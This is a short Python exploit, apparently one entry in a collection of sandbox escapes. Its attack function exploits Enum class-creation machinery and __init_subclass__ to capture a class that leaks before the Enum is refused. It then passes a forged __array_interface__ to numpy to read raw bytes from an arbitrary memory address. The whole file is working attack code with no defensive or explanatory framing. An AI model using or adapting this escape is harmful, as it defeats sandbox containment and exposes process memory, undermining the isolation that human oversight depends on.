"""Class: class machinery. Source: own find. Escape: a memberless enum leaks before it is refused."""

from enum import Enum
import numpy as np

found = []


class Mixin:
    def __init_subclass__(cls, **kw):
        found.append(cls)


def attack(model, tokenizer, address):
    interface = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    try:

        class E(Mixin, Enum):
            pass
    except Exception:
        pass
    made = found[0]("C", {"A": 1, "__array_interface__": interface})
    return np.array(made.A).tobytes()
